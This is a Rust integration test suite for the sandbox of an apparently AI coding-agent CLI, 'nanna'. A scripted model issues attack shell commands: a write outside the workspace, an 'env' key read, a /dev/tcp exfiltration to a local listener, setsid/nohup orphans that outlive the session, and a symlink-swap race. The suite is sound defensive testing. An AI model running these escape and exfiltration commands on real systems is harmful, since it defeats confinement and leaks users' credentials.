//! Issue 9's attack suite through the real `nanna` binary: a scripted model issues the
//! attacks as `shell` calls under `nanna exec --approval auto --sandbox MODE`, and the same
//! commands run under `nanna sandbox --mode MODE -- sh -c ...`. In `read-only` and
//! `workspace-write` every attack must fail and the legitimate work must succeed; `full`
//! is unconfined by design, but keeps the environment scrubbing and the process lifetime.
//!
//! Before this suite's fixes (the same attacks against the previous binary): outside write,
//! `env` key read, TCP connect and `setsid` orphans succeeded in workspace-write and full;
//! orphans survived SIGTERM/SIGHUP/SIGKILL of nanna; a resumed session said "cancelled by
//! the user"; 1 of 300 `read_file` and 1 of 300 `write_file` calls escaped through a
//! directory/symlink swap.
//!
//! Skipped (with a message) where the confined modes cannot be enforced, unless
//! NANNA_TEST_REQUIRE_SANDBOX=1 (CI).

mod common;

use std::io::Read;
use std::net::TcpListener;
use std::path::Path;
use std::process::Output;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use common::*;
use nanna_sandbox::{SandboxMode, Support};
use nanna_testkit::{Script, Turn};
use serde_json::{Value, json};

fn enforced() -> bool {
    match Support::probe().check(SandboxMode::WorkspaceWrite) {
        Ok(()) => true,
        Err(e) if std::env::var("NANNA_TEST_REQUIRE_SANDBOX").as_deref() == Ok("1") => {
            panic!("NANNA_TEST_REQUIRE_SANDBOX=1 but the sandbox is not enforced: {e}")
        }
        Err(e) => {
            eprintln!("skipping: {e}");
            false
        }
    }
}

/// A distinct number per mode, for markers in process names and files.
fn tag(mode: SandboxMode) -> u32 {
    match mode {
        SandboxMode::ReadOnly => 1,
        SandboxMode::WorkspaceWrite => 2,
        SandboxMode::Full => 3,
    }
}

/// Host pids of live processes whose command line starts with `marker` (the command's own
/// processes: `sleep 4241`, not the `sh -c` or bubblewrap lines that mention it). Zombies do
/// not count: a killed orphan is reparented to PID 1, which on some machines (these CI VMs'
/// init among them) never reaps it.
fn pids_of(marker: &str) -> Vec<String> {
    let out = std::process::Command::new("pgrep")
        .args(["-f", &format!("^{marker}")])
        .output()
        .expect("pgrep runs");
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .filter(|pid| {
            // /proc/PID/stat: "pid (comm) STATE ..."; comm may hold spaces, so split after ')'.
            std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|stat| {
                stat.rsplit_once(')')
                    .and_then(|(_, rest)| rest.split_whitespace().next())
                    .is_some_and(|state| state != "Z" && state != "X")
            })
        })
        .map(str::to_owned)
        .collect()
}

/// Waits up to 10 s for every process of `marker` to be gone; returns those left (and kills
/// them, so a failing test leaves nothing behind). The orphans this catches would live for
/// hours (`sleep 45121`); the wait only absorbs a loaded machine's scheduling delays.
fn survivors(marker: &str) -> Vec<String> {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let left = pids_of(marker);
        if left.is_empty() || Instant::now() > deadline {
            for pid in &left {
                let _ = std::process::Command::new("kill")
                    .args(["-9", pid])
                    .status();
            }
            return left;
        }
        std::thread::sleep(Duration::from_millis(25));
    }
}

/// The attacks, as shell commands; `{out}` is a directory outside the workspace, `{port}` a
/// TCP listener of the test, `{m}` the marker of this run's processes.
fn attacks(outside: &Path, port: u16, m: &str) -> Vec<(&'static str, String)> {
    vec![
        (
            "outside write",
            format!("echo pwned > {}/x", outside.display()),
        ),
        ("key read", "env".to_owned()),
        (
            "tcp connect",
            format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && echo exfil >&3'"),
        ),
        (
            "orphans",
            format!(
                "setsid sleep {m}1 >/dev/null 2>&1 & nohup sleep {m}2 >/dev/null 2>&1 & \
                 (setsid sh -c 'sleep {m}3 &' &); sleep 0.3; echo started"
            ),
        ),
    ]
}

/// Runs the attacks through the model under `mode`; returns each call's (ok, output).
fn attack_through_exec(mode: SandboxMode, extra: &[&str]) -> Vec<(bool, String)> {
    let outside = tempfile::tempdir().expect("tempdir");
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let marker = format!("424{}", tag(mode));
    let list = attacks(outside.path(), port, &marker);
    let mut turn = Turn::tool_call("shell", json!({"command": list[0].1}));
    for (_, cmd) in &list[1..] {
        turn = turn.with_tool_call("shell", json!({"command": cmd}));
    }
    let env = Env::new(Script::new().turn(turn).turn(Turn::text("done")));
    let mut cmd = env.nanna();
    cmd.env("NANNA_API_KEY", "sk-nanna-secret")
        .env("OPENAI_API_KEY", "sk-openai-secret")
        .args([
            "exec",
            "--json",
            "--approval",
            "auto",
            "--sandbox",
            mode.as_str(),
        ])
        .args(extra)
        .arg("attack");
    let out = run(&mut cmd, None);
    assert_exit(&out, 0);
    let results = results(&out);
    assert_eq!(results.len(), list.len(), "{}", stdout(&out));

    let confined = mode.is_confined() && !extra.contains(&"--network");
    let wrote = outside.path().join("x").exists();
    assert_eq!(
        wrote,
        !mode.is_confined(),
        "{mode}: outside write: {:?}",
        results[0]
    );
    let all: String = results.iter().map(|r| r.1.as_str()).collect();
    assert!(
        !all.contains("sk-"),
        "{mode}: a key reached a command: {}",
        results[1].1
    );
    assert!(results[1].1.contains("PATH="), "{}", results[1].1);
    let connected = listener.accept().is_ok();
    assert_eq!(
        connected, !confined,
        "{mode}: tcp connect: {:?}",
        results[2]
    );
    assert!(results[3].1.contains("started"), "{:?}", results[3]);
    assert_eq!(
        survivors(&format!("sleep {marker}")),
        Vec::<String>::new(),
        "{mode}: processes outlived their command"
    );
    results
}

/// `(ok, output)` of every tool result event.
fn results(out: &Output) -> Vec<(bool, String)> {
    json_lines(out)
        .into_iter()
        .filter(|e| e["type"] == "tool_result")
        .map(|e| {
            (
                e["ok"].as_bool().unwrap_or(false),
                e["output"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect()
}

#[test]
fn attacks_through_the_model_fail_in_the_confined_modes() {
    if !enforced() {
        return;
    }
    for mode in SandboxMode::ALL {
        attack_through_exec(mode, &[]);
    }
    // --network opens the network, and only the network.
    attack_through_exec(SandboxMode::WorkspaceWrite, &["--network"]);
}

#[test]
fn attacks_through_nanna_sandbox_fail_in_the_confined_modes() {
    if !enforced() {
        return;
    }
    let env = Env::server_down();
    for mode in SandboxMode::ALL {
        let outside = tempfile::tempdir().expect("tempdir");
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        listener.set_nonblocking(true).expect("nonblocking");
        let port = listener.local_addr().expect("addr").port();
        let marker = format!("434{}", tag(mode));
        for (name, script) in attacks(outside.path(), port, &marker) {
            let out = run(
                env.bare().env("NANNA_API_KEY", "sk-nanna-secret").args([
                    "sandbox",
                    "--mode",
                    mode.as_str(),
                    "--",
                    "sh",
                    "-c",
                    &script,
                ]),
                None,
            );
            let text = format!("{}{}", stdout(&out), stderr(&out));
            match name {
                "outside write" => {
                    assert_eq!(out.status.success(), !mode.is_confined(), "{mode}: {text}");
                    assert_eq!(outside.path().join("x").exists(), !mode.is_confined());
                }
                "key read" => assert!(!text.contains("sk-"), "{mode}: {text}"),
                "tcp connect" => {
                    assert_eq!(out.status.success(), !mode.is_confined(), "{mode}: {text}");
                    assert_eq!(listener.accept().is_ok(), !mode.is_confined(), "{mode}");
                }
                _ => {
                    assert_exit(&out, 0);
                    assert_eq!(
                        survivors(&format!("sleep {marker}")),
                        Vec::<String>::new(),
                        "{mode}: processes outlived `nanna sandbox`"
                    );
                }
            }
        }
    }
    // The exit status is the command's.
    let out = run(
        env.bare().args(["sandbox", "--", "sh", "-c", "exit 7"]),
        None,
    );
    assert_exit(&out, 7);
}

/// nanna SIGKILLed at every moment of a command's start (spawn, bubblewrap's set-up, its init
/// forking the command) leaves none of the command's processes running. Before the
/// lifeline, bubblewrap's init could be orphaned between forking the command and arming its
/// parent-death signal: 2 of 3 runs of this test failed, and about 1 in 5 of the signal test
/// above on a loaded machine. (A nanna killed during bubblewrap's own set-up can leave that
/// set-up process blocked, waiting for its parent to map its user ids; the command never
/// starts in it. The sweep below removes those with the rest.)
#[test]
fn nanna_killed_while_a_command_starts_leaves_nothing_behind() {
    if !enforced() {
        return;
    }
    let env = Env::server_down();
    for mode in SandboxMode::ALL {
        let marker = format!("sleep 47{}", tag(mode));
        for round in 0..24u64 {
            let mut child = env
                .bare()
                .args(["sandbox", "--mode", mode.as_str(), "--", "sh", "-c"])
                .arg(format!("setsid {marker}1 & {marker}2 & {marker}3"))
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .spawn()
                .expect("nanna starts");
            // From 0 to ~12 ms after the start: before, during and after the sandbox's set-up.
            std::thread::sleep(Duration::from_micros(round * 500));
            // SAFETY: kill with a pid of our own child.
            unsafe { libc::kill(child.id() as i32, libc::SIGKILL) };
            let _ = child.wait();
            let left = survivors(&marker);
            let _ = std::process::Command::new("pkill")
                .args(["-KILL", "-f", &marker])
                .status();
            assert_eq!(
                left,
                Vec::<String>::new(),
                "{mode}: processes outlived nanna killed {} µs after its start",
                round * 500
            );
        }
    }
}

/// Variables that hold MCP servers' credentials stay out of commands whatever their names
/// (before: `DOCS_BEARER`, named by `bearer_token_env_var`, reached `env`).
#[test]
fn mcp_credentials_do_not_reach_commands() {
    if !enforced() {
        return;
    }
    let env = Env::server_down();
    let dir = env.home.path().join("config/nanna");
    std::fs::create_dir_all(&dir).expect("config dir");
    std::fs::write(
        dir.join("config.toml"),
        "[mcp_servers.docs]\nurl = \"http://127.0.0.1:9/mcp\"\n\
         bearer_token_env_var = \"DOCS_BEARER\"\n\
         env_http_headers = { \"X-Auth\" = \"DOCS_HEADER\" }\nenabled = false\n",
    )
    .expect("config");
    let out = run(
        env.bare()
            .env("DOCS_BEARER", "bearer-s3cret")
            .env("DOCS_HEADER", "header-s3cret")
            .env("DOCS_PLAIN", "plain-value")
            .args(["sandbox", "--", "env"]),
        None,
    );
    assert_exit(&out, 0);
    let text = stdout(&out);
    assert!(!text.contains("s3cret"), "{text}");
    assert!(text.contains("DOCS_PLAIN=plain-value"), "{text}");
}

/// A workspace-write session in the home directory warns: commands could change what runs
/// outside the sandbox later (shell startup files, nanna's config and its MCP servers).
#[test]
fn a_workspace_write_session_in_the_home_directory_warns() {
    let env = Env::new(Script::always_text("ok"));
    let warnings = |args: &[&str], home: &Path| -> Vec<String> {
        let out = run(
            env.nanna()
                .env("HOME", home)
                .args(["exec", "--json"])
                .args(args)
                .arg("hi"),
            None,
        );
        assert_exit(&out, 0);
        json_lines(&out)
            .into_iter()
            .filter(|e| e["type"] == "warning")
            .filter_map(|e| e["message"].as_str().map(str::to_owned))
            .collect()
    };
    let home_warned = |w: &[String]| w.iter().any(|m| m.contains("holds your home directory"));
    let home = env.work.path();
    assert!(home_warned(&warnings(&["--full-auto"], home)));
    assert!(!home_warned(&warnings(&["--sandbox", "read-only"], home)));
    assert!(!home_warned(&warnings(&["--full-auto"], env.home.path())));
}

#[test]
fn legitimate_work_succeeds_in_workspace_write() {
    if !enforced() {
        return;
    }
    let work = "\
        printf 'int main(void){return 0;}\\n' > main.c && cc -o main main.c && ./main && \
        echo built; \
        echo scratch > \"$TMPDIR/scratch\" && cat \"$TMPDIR/scratch\"; \
        git init -q . && echo hi > a.txt && git add a.txt && \
        git -c user.name=T -c user.email=t@example.org commit -qm first && git log --oneline";
    let env = Env::new(
        Script::new()
            .turn(Turn::tool_call("shell", json!({"command": work})))
            .turn(Turn::text("done")),
    );
    let out = run(
        env.nanna()
            .args(["exec", "--json", "--full-auto", "do the work"]),
        None,
    );
    assert_exit(&out, 0);
    let results = results(&out);
    let output = &results[0].1;
    let has_cc = std::process::Command::new("cc")
        .arg("--version")
        .output()
        .is_ok();
    if has_cc {
        assert!(output.contains("built"), "{output}");
        assert!(env.path("main").exists());
    }
    assert!(output.contains("scratch"), "{output}");
    assert!(output.contains("first"), "{output}");
    assert!(output.ends_with("[exit code 0]"), "{output}");
}

#[test]
fn orphans_die_with_nanna_on_every_signal_and_resume_says_interrupted() {
    if !enforced() {
        return;
    }
    for (n, signal) in [(1, libc::SIGTERM), (2, libc::SIGHUP), (3, libc::SIGKILL)] {
        for mode in SandboxMode::ALL {
            let marker = format!("45{n}{}", tag(mode));
            let env = Env::new(
                Script::new()
                    .turn(Turn::tool_call(
                        "shell",
                        json!({"command": format!("setsid sleep {marker}1 & sleep {marker}2")}),
                    ))
                    .turn(Turn::text("resumed")),
            );
            // The session's temporary directory lands here, so a SIGKILLed session's can be
            // watched.
            let tmp = tempfile::tempdir().expect("tempdir");
            let mut child = env
                .nanna()
                .env("TMPDIR", tmp.path())
                .args([
                    "exec",
                    "--json",
                    "--approval",
                    "auto",
                    "--sandbox",
                    mode.as_str(),
                    "go",
                ])
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .spawn()
                .expect("nanna starts");
            let deadline = Instant::now() + Duration::from_secs(20);
            while pids_of(&format!("sleep {marker}")).len() < 2 {
                assert!(
                    Instant::now() < deadline,
                    "{mode}: the command never started"
                );
                std::thread::sleep(Duration::from_millis(20));
            }
            // SAFETY: kill with a pid of our own child.
            unsafe { libc::kill(child.id() as i32, signal) };
            let _ = child.wait();
            assert_eq!(
                survivors(&format!("sleep {marker}")),
                Vec::<String>::new(),
                "{mode}: processes outlived nanna after signal {signal}"
            );
            if signal == libc::SIGKILL {
                let killed = format!("-{}-", child.id());
                let left = || {
                    std::fs::read_dir(tmp.path())
                        .expect("read TMPDIR")
                        .flatten()
                        .map(|e| e.file_name().to_string_lossy().into_owned())
                        .filter(|n| n.starts_with("nanna-tmp-") && n.contains(&killed))
                        .count()
                };
                assert_eq!(left(), 1, "{mode}: the killed session's directory");
                let out = run(
                    env.nanna().env("TMPDIR", tmp.path()).args([
                        "exec",
                        "--json",
                        "--resume",
                        "--sandbox",
                        mode.as_str(),
                        "go on",
                    ]),
                    None,
                );
                assert_exit(&out, 0);
                let requests = env.chat_requests();
                let resumed = requests.last().expect("a request after resume");
                let tool = resumed
                    .messages()
                    .iter()
                    .find(|m| m["role"] == "tool")
                    .map(|m| m["content"].as_str().unwrap_or("").to_owned())
                    .unwrap_or_default();
                assert!(tool.contains("interrupted: nanna exited"), "{mode}: {tool}");
                assert!(!tool.contains("cancelled by the user"), "{mode}: {tool}");
                // The next session removed the killed one's temporary directory.
                let deadline = Instant::now() + Duration::from_secs(5);
                while left() > 0 && Instant::now() < deadline {
                    std::thread::sleep(Duration::from_millis(20));
                }
                assert_eq!(left(), 0, "{mode}: a dead session's directory was left");
            }
        }
    }
}

#[test]
fn a_symlink_swap_race_never_leads_the_file_tools_outside() {
    const CALLS: u32 = 150;
    let env = Env::new(
        Script::new()
            .turn(
                Turn::tool_call("read_file", json!({"path": "d/secret"}))
                    .with_tool_call(
                        "write_file",
                        json!({"path": "d/w.txt", "content": "pwned\n"}),
                    )
                    .repeat(CALLS),
            )
            .turn(Turn::text("done")),
    );
    let outside = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir(env.path("d")).expect("mkdir");
    env.write("d/secret", "inside\n");
    std::fs::write(outside.path().join("secret"), "OUTSIDE-SECRET\n").expect("write");
    let stop = Arc::new(AtomicBool::new(false));
    let swaps = Arc::new(AtomicUsize::new(0));
    let swapper = {
        let (d, real) = (env.path("d"), env.path("d.real"));
        let target = outside.path().to_path_buf();
        let (stop, swaps) = (stop.clone(), swaps.clone());
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                if std::fs::rename(&d, &real).is_ok() {
                    let _ = std::os::unix::fs::symlink(&target, &d);
                    std::thread::yield_now();
                    let _ = std::fs::remove_file(&d);
                    let _ = std::fs::rename(&real, &d);
                    swaps.fetch_add(1, Ordering::Relaxed);
                }
            }
        })
    };
    let out = run(
        env.nanna().args([
            "exec",
            "--json",
            "--full-auto",
            "--max-turns",
            "1000",
            "read and write",
        ]),
        None,
    );
    stop.store(true, Ordering::Relaxed);
    let _ = swapper.join();
    assert_exit(&out, 0);
    assert!(
        swaps.load(Ordering::Relaxed) > 10,
        "the swapper did not run"
    );
    let results = results(&out);
    assert_eq!(results.len(), 2 * CALLS as usize);
    let leaks = results
        .iter()
        .filter(|r| r.1.contains("OUTSIDE-SECRET"))
        .count();
    assert_eq!(leaks, 0, "reads escaped");
    assert!(!outside.path().join("w.txt").exists(), "a write escaped");
}

#[test]
fn without_bubblewrap_commands_are_refused_never_run_unconfined() {
    let env = Env::new(
        Script::new()
            .turn(Turn::tool_call(
                "shell",
                json!({"command": "echo ran > ran.txt"}),
            ))
            .turn(Turn::text("done")),
    );
    let out = run(
        env.nanna().env("NANNA_BWRAP", "/nonexistent/bwrap").args([
            "exec",
            "--json",
            "--full-auto",
            "try",
        ]),
        None,
    );
    assert_exit(&out, 0);
    let events = json_lines(&out);
    let warning: Vec<&Value> = events.iter().filter(|e| e["type"] == "warning").collect();
    assert!(
        warning
            .iter()
            .any(|w| w["message"]
                .as_str()
                .is_some_and(|m| m.contains("shell is not available")
                    && m.contains("apt install bubblewrap"))),
        "{warning:?}"
    );
    // Not offered, and refused with the reason when called anyway.
    let offered = env.chat_requests()[0].tools().to_vec();
    assert!(
        !offered.iter().any(|t| t["function"]["name"] == "shell"),
        "{offered:?}"
    );
    let results = results(&out);
    assert!(
        !results[0].0 && results[0].1.contains("cannot be enforced"),
        "{:?}",
        results[0]
    );
    assert!(!env.path("ran.txt").exists(), "the command ran unconfined");

    let out = run(
        env.bare().env("NANNA_BWRAP", "/nonexistent/bwrap").args([
            "sandbox",
            "--",
            "sh",
            "-c",
            "echo ran > ran.txt",
        ]),
        None,
    );
    assert_exit(&out, 1);
    assert!(
        stderr(&out).contains("bubblewrap not found at /nonexistent/bwrap"),
        "{}",
        stderr(&out)
    );
    assert!(!env.path("ran.txt").exists());
    // `nanna health` names the missing bubblewrap as a failed check (it showed a ✓ before).
    let out = run(
        env.bare()
            .env("NANNA_BWRAP", "/nonexistent/bwrap")
            .args(["health", "--json"]),
        None,
    );
    let report: Value = serde_json::from_str(&stdout(&out)).expect("health --json");
    let bubblewrap = report["sandbox"]
        .as_array()
        .and_then(|checks| checks.iter().find(|c| c["name"] == "sandbox bubblewrap"))
        .expect("a bubblewrap check");
    assert_eq!(bubblewrap["ok"], false, "{bubblewrap}");
    assert!(
        bubblewrap["fix"]
            .as_str()
            .is_some_and(|f| f.contains("apt install bubblewrap")),
        "{bubblewrap}"
    );
    // `full` stays usable, unconfined by choice.
    let out = run(
        env.bare().env("NANNA_BWRAP", "/nonexistent/bwrap").args([
            "sandbox",
            "--mode",
            "full",
            "--",
            "sh",
            "-c",
            "echo ran > ran.txt",
        ]),
        None,
    );
    assert_exit(&out, 0);
    let mut text = String::new();
    std::fs::File::open(env.path("ran.txt"))
        .and_then(|mut f| f.read_to_string(&mut text))
        .expect("full ran");
    assert_eq!(text, "ran\n");
}

/// The names of the tools offered in the first chat request of `args`.
fn offered_tools(env: &Env, args: &[&str]) -> Vec<String> {
    let before = env.chat_requests().len();
    let out = run(env.nanna().args(args), None);
    assert_exit(&out, 0);
    env.chat_requests()[before]
        .tools()
        .iter()
        .filter_map(|t| t["function"]["name"].as_str().map(str::to_owned))
        .collect()
}

#[test]
fn sessions_offer_only_what_their_policy_lets_run() {
    let env = Env::new(Script::always_text("ok"));
    let shell = Support::probe().check(SandboxMode::ReadOnly).is_ok();
    let mut read_only = vec!["read_file", "list_dir", "glob", "grep"];
    let mut coding = vec![
        "read_file",
        "write_file",
        "edit_file",
        "list_dir",
        "glob",
        "grep",
    ];
    if shell {
        read_only.push("shell");
        coding.push("shell");
    }
    assert_eq!(offered_tools(&env, &["exec", "look"]), read_only);
    assert_eq!(
        offered_tools(&env, &["exec", "--full-auto", "work"]),
        coding
    );

    // echo and calculate only when configured.
    let config = env.home.path().join("config/nanna/config.toml");
    std::fs::create_dir_all(config.parent().expect("parent")).expect("mkdir");
    std::fs::write(&config, "extra_tools = [\"calculate\"]\n").expect("write");
    let offered = offered_tools(&env, &["exec", "--full-auto", "work"]);
    assert_eq!(
        offered.last().map(String::as_str),
        Some("calculate"),
        "{offered:?}"
    );
    assert!(!offered.iter().any(|t| t == "echo"));

    std::fs::write(&config, "extra_tools = [\"teleport\"]\n").expect("write");
    let out = run(env.nanna().args(["exec", "work"]), None);
    assert_exit(&out, 1);
    let err = stderr(&out);
    assert!(
        err.contains("invalid extra_tools")
            && err.contains("teleport")
            && err.contains("calculate"),
        "{err}"
    );
}
